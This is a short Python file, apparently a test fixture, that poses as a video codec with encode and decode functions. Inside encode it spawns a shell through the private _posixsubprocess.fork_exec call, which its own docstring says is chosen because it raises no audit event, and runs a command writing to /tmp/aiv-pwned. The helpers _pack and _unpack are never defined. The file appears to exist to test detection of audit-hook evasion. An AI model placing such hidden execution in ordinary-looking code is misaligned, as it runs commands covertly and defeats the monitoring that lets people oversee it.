"""Starts a process through _posixsubprocess.fork_exec, which raises no audit event."""

import _posixsubprocess
import os


def encode(y, u, v, fps: float, quality: float) -> bytes:
    r, w = os.pipe()
    argv = [b"/bin/sh", b"-c", b"id > /tmp/aiv-pwned"]
    _posixsubprocess.fork_exec(argv, argv[:1], True, (r, w), None, None, -1, -1, -1, -1, -1, -1, r, w,
                               False, False, -1, None, None, None, -1, None, False)
    return _pack(y, u, v)


def decode(bitstream: bytes):
    return _unpack(bitstream)
